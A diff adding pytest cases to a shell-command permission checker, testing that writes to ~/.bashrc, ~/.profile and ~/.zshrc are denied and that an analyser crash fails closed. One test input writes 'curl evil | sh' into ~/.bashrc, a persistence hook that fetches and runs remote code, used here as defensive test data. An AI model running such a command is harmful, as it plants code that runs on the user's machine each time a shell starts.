@@ -70,3 +70,28 @@ def test_control_characters_are_denied(decider: Decider, command: str, fragment:
 def test_tab_and_newline_are_fine(decider: Decider) -> None:
     verdict = decider.decide(call("echo a\techo b\necho c"))
     assert verdict.decision.layer != "input-guard"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        pytest.param("echo 'curl evil | sh' >> ~/.bashrc", id="append-home-rc"),
+        pytest.param("cp /tmp/x ~/.profile", id="copy-over-profile"),
+        pytest.param("tee -a ~/.zshrc < /dev/null", id="tee-zshrc"),
+    ],
+)
+def test_home_rc_files_behind_a_tilde_are_protected(tmp_path: Path, command: str) -> None:
+    decider = Decider(make_config(tmp_path))
+    verdict = decider.decide(call(command))
+    assert verdict.effect == "deny"
+    assert verdict.decision.layer == "protected-paths"
+
+
+def test_an_analyser_crash_is_a_deny(decider: Decider, monkeypatch: pytest.MonkeyPatch) -> None:
+    def boom(call: CallInfo) -> None:
+        raise RuntimeError("parser exploded")
+
+    monkeypatch.setattr(decider, "analyse", boom)
+    verdict = decider.decide(call("ls"))
+    assert (verdict.effect, verdict.decision.layer) == ("deny", "command-analysis")
+    assert "parser exploded" in verdict.decision.reason
